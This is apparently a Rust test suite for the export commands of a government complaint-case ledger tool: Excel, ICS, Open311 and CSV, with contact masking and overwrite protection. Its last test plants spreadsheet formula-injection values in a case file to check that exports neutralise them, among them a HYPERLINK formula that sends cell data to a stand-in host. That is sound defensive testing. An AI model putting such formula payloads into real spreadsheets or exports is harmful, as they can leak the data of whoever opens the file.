//! `qinqing export ledger`: the 台账 read back with calamine says what `list`
//! says, dates are Excel dates, personal data only on request, the same bytes
//! twice, and a user's file is never overwritten without `--force`.

use crate::common;

use std::path::Path;

use calamine::{open_workbook, Data, Reader, Xlsx};
use common::{demo_copy, qinqing};

const AS_OF: &str = "2026-11-20";

fn sheet(path: &Path) -> Vec<Vec<Data>> {
    let mut wb: Xlsx<_> = open_workbook(path).expect("the workbook opens");
    let range = wb.worksheet_range("台账").expect("the 台账 sheet");
    range.rows().map(|r| r.to_vec()).collect()
}

fn text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Empty => String::new(),
        // Excel's serial day: days since 1899-12-30.
        Data::DateTime(dt) => (chrono::NaiveDate::from_ymd_opt(1899, 12, 30).unwrap()
            + chrono::Duration::days(dt.as_f64() as i64))
        .to_string(),
        other => format!("{other:?}"),
    }
}

fn list(repo: &Path, extra: &[&str]) -> Vec<serde_json::Value> {
    let mut args = vec!["list", "--as-of", AS_OF, "--format", "json"];
    args.extend_from_slice(extra);
    let run = qinqing(repo, &args);
    serde_json::from_str::<Vec<serde_json::Value>>(&run.stdout).unwrap()
}

#[test]
fn the_ledger_read_back_says_what_list_says() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = demo_copy(tmp.path());
    let out = tmp.path().join("台账.xlsx");
    let run = qinqing(&repo, &["export", "ledger", "--as-of", AS_OF, "--out", out.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let rows = sheet(&out);
    assert!(text(&rows[0][0]).ends_with("企业反映问题台账"));
    assert!(text(&rows[1][0]).starts_with("截至2026年11月20日"));
    let head: Vec<String> = rows[2].iter().map(text).collect();
    assert_eq!(head[..6], ["编号", "收到日期", "渠道", "恳谈会", "企业", "反映问题"]);
    assert!(!head.contains(&"联系人".to_string()) && head.len() == 21);
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let listed = list(&repo, &[]);
    let data: Vec<&Vec<Data>> = rows[3..].iter().filter(|r| text(&r[0]).starts_with("HZ-")).collect();
    assert_eq!(data.len(), listed.len());
    let zh = |status: &str| match status {
        "closed" => "办结",
        "assigned" => "办理中",
        "replied" => "待评价",
        "evaluated" => "已评价",
        "reopened" => "重办中",
        "returned" => "待重新交办",
        "answered" => "现场答复",
        "received" => "待交办",
        other => panic!("{other}"),
    };
    for (row, case) in data.iter().zip(&listed) {
        assert_eq!(text(&row[0]), case["id"].as_str().unwrap());
        assert_eq!(text(&row[col("状态")]), zh(case["status"].as_str().unwrap()), "{}", case["id"]);
        assert_eq!(text(&row[col("主办")]), case["lead"].as_str().unwrap_or(""), "{}", case["id"]);
        let overdue = !matches!(row[col("超期天数")], Data::Empty);
        assert_eq!(overdue, case["overdue"].as_bool().unwrap(), "{}", case["id"]);
    }
    // Dates are dates, not text; the overdue case's figures as `show` gives them.
    let c131 = data.iter().find(|r| text(&r[0]) == "HZ-2026-0131").unwrap();
    assert!(matches!(c131[col("收到日期")], Data::DateTime(_)), "{:?}", c131[col("收到日期")]);
    assert_eq!(text(&c131[col("收到日期")]), "2026-10-14");
    assert_eq!(text(&c131[col("交办日期")]), "2026-10-15");
    assert_eq!(text(&c131[col("首次答复期限")]), "2026-10-29");
    // A reply beside the deadline it answered: 0102's first reply (08-26, due 08-28) was on time,
    // its redo's reply came on 10-09; 0104's reply answers its extended deadline.
    let c102 = data.iter().find(|r| text(&r[0]) == "HZ-2026-0102").unwrap();
    let dates =
        |r: &Vec<Data>| ["首次答复期限", "首次答复日期", "最近答复日期", "承诺办结日期"].map(|c| text(&r[col(c)]));
    assert_eq!(dates(c102), ["2026-08-28", "2026-08-26", "2026-10-09", ""]);
    let c104 = data.iter().find(|r| text(&r[0]) == "HZ-2026-0104").unwrap();
    assert_eq!(dates(c104), ["2026-09-30", "2026-09-28", "2026-09-28", "2026-12-31"]);
    assert_eq!(text(&c131[col("超期天数")]), "22", "past its reply deadline, the longest of its overdue clocks");
    assert_eq!(text(&c131[col("督办文号")]), "湖营商督〔2026〕5号");
    assert_eq!(text(&c131[col("协办")]), "市发展和改革委员会、市自然资源和规划局");
    assert!(text(&c131[col("反映问题")]).starts_with("新建厂房专用电力线路接入进度滞后\n企业新建厂房"));
    // No personal data without --with-contacts, even in the notes.
    let all: String = data.iter().flat_map(|r| r.iter().map(text)).collect();
    assert!(!all.contains("周某") && !all.contains("13800000131") && all.contains("139****0131"), "{all}");
    // Filters are list's: --overdue gives list --overdue's cases.
    let overdue_out = tmp.path().join("超期.csv");
    let run =
        qinqing(&repo, &["export", "ledger", "--as-of", AS_OF, "--overdue", "--out", overdue_out.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let csv = std::fs::read_to_string(&overdue_out).unwrap();
    assert!(csv.starts_with('\u{feff}'), "a byte-order mark for Excel");
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let ids: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
    let expected: Vec<String> =
        list(&repo, &["--overdue"]).iter().map(|c| c["id"].as_str().unwrap().to_string()).collect();
    assert_eq!(ids, expected);
}

#[test]
fn contacts_only_on_request_same_bytes_twice_never_clobbers() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = demo_copy(tmp.path());
    let out = tmp.path().join("回访.xlsx");
    let args = ["export", "ledger", "--as-of", AS_OF, "--with-contacts", "--out", out.to_str().unwrap()];
    assert_eq!(qinqing(&repo, &args).code, 0);
    let rows = sheet(&out);
    let head: Vec<String> = rows[2].iter().map(text).collect();
    assert_eq!(head[5..7], ["联系人", "联系电话"]);
    let c131 = rows.iter().find(|r| text(&r[0]) == "HZ-2026-0131").unwrap();
    assert_eq!((text(&c131[5]), text(&c131[6])), ("周某".to_string(), "13800000131".to_string()));
    let first = std::fs::read(&out).unwrap();

    // Without --force an existing file is kept as it is.
    std::fs::write(&out, b"the user's own work").unwrap();
    let refused = qinqing(&repo, &args);
    assert_ne!(refused.code, 0);
    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
    assert_eq!(std::fs::read(&out).unwrap(), b"the user's own work");
    let mut forced = args.to_vec();
    forced.push("--force");
    assert_eq!(qinqing(&repo, &forced).code, 0);
    assert_eq!(std::fs::read(&out).unwrap(), first, "the same ledger, the same bytes");
}

/// The events of a feed as an independent reader (Python's icalendar package) sees them.
fn read_ics(path: &Path) -> Vec<serde_json::Value> {
    let script = r#"
import icalendar, json, sys
cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
out = []
for e in cal.walk('VEVENT'):
    out.append({
        'uid': str(e['UID']), 'summary': str(e['SUMMARY']),
        'start': e.decoded('DTSTART').isoformat(), 'end': e.decoded('DTEND').isoformat(),
        'sequence': int(e['SEQUENCE']), 'stamp': e.decoded('DTSTAMP').isoformat(),
        'alarms': [str(a.decoded('TRIGGER')) for a in e.walk('VALARM')],
    })
print(json.dumps(out, ensure_ascii=False))
"#;
    let out = common::tool("/usr/bin/python3", &["-c", script, path.to_str().unwrap()]);
    serde_json::from_slice(&out).expect("the reader's JSON")
}

/// The VEVENT blocks of a feed, by UID, as written.
fn blocks(text: &str) -> std::collections::BTreeMap<String, String> {
    text.split("BEGIN:VEVENT")
        .skip(1)
        .map(|b| {
            let uid = b.lines().find_map(|l| l.strip_prefix("UID:")).unwrap().to_string();
            (uid, b.to_string())
        })
        .collect()
}

#[test]
fn the_calendar_holds_every_open_deadline_and_a_second_export_changes_only_what_changed() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = demo_copy(tmp.path());
    let feed = tmp.path().join("时限.ics");
    let export = |force: bool| {
        let mut args = vec!["export", "ics", "--as-of", AS_OF, "--out", feed.to_str().unwrap()];
        if force {
            args.push("--force");
        }
        let run = qinqing(&repo, &args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        std::fs::read_to_string(&feed).unwrap()
    };
    let first = export(false);
    let events = read_ics(&feed);
    let (checked, _) = common::check_json(&repo, AS_OF, &["--all"]);
    let open: Vec<&serde_json::Value> = checked["clocks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| matches!(c["status"].as_str().unwrap(), "pending" | "due_soon" | "overdue"))
        .collect();
    assert_eq!(events.len(), open.len());
    for (e, c) in events.iter().zip(&open) {
        let uid = format!(
            "{}/{}/{}@qinqing",
            c["case"].as_str().unwrap(),
            c["rule"].as_str().unwrap(),
            c["start"].as_str().unwrap()
        );
        assert_eq!(e["uid"], uid.as_str());
        assert_eq!(e["start"], c["due"], "an all-day event on the due date");
        let next =
            chrono::NaiveDate::parse_from_str(c["due"].as_str().unwrap(), "%Y-%m-%d").unwrap().succ_opt().unwrap();
        assert_eq!(e["end"], next.to_string().as_str(), "ending, exclusively, the next day");
        assert!(e["summary"].as_str().unwrap().starts_with(c["case"].as_str().unwrap()));
    }
    // The reply rule warns three days ahead: a reminder at 09:00 three days before.
    let reply = events.iter().find(|e| e["uid"].as_str().unwrap().contains("/reply/")).unwrap();
    assert_eq!(reply["alarms"][0], "-3 days, 9:00:00", "{reply}");

    // The same day again: the same bytes. One more event in one case: only its events change.
    assert_eq!(export(true), first);
    let run = qinqing(&repo, &["note", "HZ-2026-0131", "--date", AS_OF, "--text", "电话催办"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let second = export(true);
    let (before, after) = (blocks(&first), blocks(&second));
    assert_eq!(before.keys().collect::<Vec<_>>(), after.keys().collect::<Vec<_>>(), "the same UIDs");
    let changed: Vec<&String> = before.keys().filter(|k| before[*k] != after[*k]).collect();
    assert!(!changed.is_empty() && changed.iter().all(|k| k.starts_with("HZ-2026-0131/")), "{changed:?}");
    let seq = |text: &str, uid: &str| {
        blocks(text)[uid].lines().find_map(|l| l.strip_prefix("SEQUENCE:")).unwrap().parse::<u32>().unwrap()
    };
    assert_eq!(seq(&second, changed[0]), seq(&first, changed[0]) + 1, "a calendar sees the newer version");

    // A department's feed holds its clocks only; a file is kept without --force.
    let dept = tmp.path().join("供电.ics");
    let run =
        qinqing(&repo, &["export", "ics", "--as-of", AS_OF, "--dept", "供电公司", "--out", dept.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mine = read_ics(&dept);
    assert!(!mine.is_empty() && mine.iter().all(|e| e["summary"].as_str().unwrap().ends_with("（国网湖州供电公司）")));
    assert_ne!(qinqing(&repo, &["export", "ics", "--as-of", AS_OF, "--out", dept.to_str().unwrap()]).code, 0);
}

#[test]
fn open311_output_has_the_specifications_fields_and_types() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = demo_copy(tmp.path());
    let dir = tmp.path().join("open311");
    let run = qinqing(&repo, &["export", "open311", "--as-of", AS_OF, "--out-dir", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let read = |name: &str| -> Vec<serde_json::Value> {
        serde_json::from_str(&std::fs::read_to_string(dir.join(name)).unwrap()).unwrap()
    };
    let is_text = |v: &serde_json::Value| v.is_string();
    let is_time = |v: &serde_json::Value| {
        v.is_null() || v.as_str().is_some_and(|t| chrono::DateTime::parse_from_rfc3339(t).is_ok())
    };
    // GeoReport v2, GET services: service_code, service_name, description, metadata (true/false),
    // type (realtime/batch/blackbox), keywords, group.
    let services = read("services.json");
    assert!(!services.is_empty());
    for s in &services {
        for key in ["service_code", "service_name", "description", "keywords", "group"] {
            assert!(is_text(&s[key]), "{key}: {s}");
        }
        assert!(s["metadata"].is_boolean());
        assert!(matches!(s["type"].as_str(), Some("realtime" | "batch" | "blackbox")));
    }
    // GET requests: every field of the specification, typed as it says.
    let requests = read("requests.json");
    let listed = list(&repo, &[]);
    assert_eq!(requests.len(), listed.len());
    let codes: Vec<&str> = services.iter().map(|s| s["service_code"].as_str().unwrap()).collect();
    for (r, case) in requests.iter().zip(&listed) {
        assert_eq!(r["service_request_id"], case["id"]);
        let closed = case["status"] == "closed";
        assert_eq!(r["status"], if closed { "closed" } else { "open" });
        for key in [
            "status_notes",
            "service_name",
            "service_code",
            "description",
            "agency_responsible",
            "service_notice",
            "address",
            "zipcode",
            "media_url",
        ] {
            assert!(is_text(&r[key]), "{key}: {r}");
        }
        for key in ["requested_datetime", "updated_datetime", "expected_datetime"] {
            assert!(is_time(&r[key]), "{key}: {r}");
        }
        assert!(r["lat"].is_null() && r["long"].is_null());
        assert!(codes.contains(&r["service_code"].as_str().unwrap()), "a request's service is listed");
        assert_eq!(r["agency_responsible"], case["lead"].as_str().map_or("", |l| l));
        assert_eq!(r["expected_datetime"].is_null(), closed || case["next_due"].is_null());
    }
    let c131 = requests.iter().find(|r| r["service_request_id"] == "HZ-2026-0131").unwrap();
    assert_eq!(c131["requested_datetime"], "2026-10-14T00:00:00+08:00");
    let all = serde_json::to_string(&requests).unwrap();
    assert!(!all.contains("周某") && !all.contains("13800000131"), "published: no contact, no phone");
}

#[test]
fn a_repository_with_errors_is_refused_and_the_errors_are_named_where_they_are() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = demo_copy(tmp.path());
    let file = repo.join("cases/2026/第23期恳谈会/HZ-2026-0131.yaml");
    let text = std::fs::read_to_string(&file).unwrap().replacen("lead: 国网湖州供电公司", "lead: 国网湖州供电", 1);
    std::fs::write(&file, text).unwrap();
    for args in [
        vec!["export", "ledger", "--as-of", AS_OF],
        vec!["export", "ics", "--as-of", AS_OF],
        vec!["export", "open311", "--as-of", AS_OF],
        vec!["notify", "--as-of", AS_OF],
    ] {
        let run = qinqing(&repo, &args);
        assert_eq!(run.code, 2, "{args:?}");
        assert!(
            run.stderr.contains(
                "cases/2026/第23期恳谈会/HZ-2026-0131.yaml:17:11: 未知部门「国网湖州供电」 [unknown-department]"
            ),
            "{args:?}: {}",
            run.stderr
        );
        assert!(!repo.join("output").exists(), "nothing written");
    }
}

/// A cell a spreadsheet would run as a formula is written as text in every CSV qinqing writes,
/// read back by an independent reader (Python's `csv`).
#[test]
fn no_csv_cell_starts_a_formula() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = demo_copy(tmp.path());
    let file = repo.join("cases/2026/第21期恳谈会/HZ-2026-0101.yaml");
    let text = std::fs::read_to_string(&file).unwrap();
    let text = text
        .replacen(
            "  name: ",
            "  name: \"=HYPERLINK(\\\"http://x.example/?d=\\\"&A2,\\\"点击查看\\\")\"\n  x_old_name: ",
            1,
        )
        .replacen("category: 交通出行", "category: \"@SUM(1+1)\"", 1)
        .replacen("title: ", "title: \"-2+3 \"\ntitle_x: ", 1);
    // Only the keys the format knows: put the old values back as they were.
    let text = text.replace("  x_old_name: ", "  # ").replace("title_x: ", "# ");
    std::fs::write(&file, text).unwrap();
    let check = qinqing(&repo, &["check", "--as-of", AS_OF]);
    assert!(check.code < 2, "{}{}", check.stdout, check.stderr);
    let ledger = tmp.path().join("台账.csv");
    let run = qinqing(&repo, &["export", "ledger", "--as-of", AS_OF, "--out", ledger.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report = tmp.path().join("统计.csv");
    let run = qinqing(
        &repo,
        &["report", "--period", "2026", "--as-of", AS_OF, "--format", "csv", "--out", report.to_str().unwrap()],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let script = r#"
import csv, sys
bad = []
seen = 0
for path in sys.argv[1:]:
    with open(path, newline='', encoding='utf-8-sig') as f:
        for row in csv.reader(f):
            for cell in row:
                seen += 1
                if cell[:1] in ('=', '+', '-', '@', '\t', '\r'):
                    bad.append(cell)
print(seen, len(bad))
for b in bad:
    print(repr(b))
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script, ledger.to_str().unwrap(), report.to_str().unwrap()])
        .output()
        .expect("python3 runs");
    let said = String::from_utf8_lossy(&out.stdout);
    let mut counts = said.split_whitespace();
    let seen: usize = counts.next().unwrap().parse().unwrap();
    assert!(seen > 500, "{said}");
    assert_eq!(counts.next(), Some("0"), "cells a spreadsheet would run: {said}");
    // Shown as text: the value after the quote is what was written.
    let csv = std::fs::read_to_string(&ledger).unwrap();
    assert!(csv.contains("'=HYPERLINK(") && csv.contains("'@SUM(1+1)"), "{csv}");
    assert!(std::fs::read_to_string(&report).unwrap().contains("'@SUM(1+1)"));
}
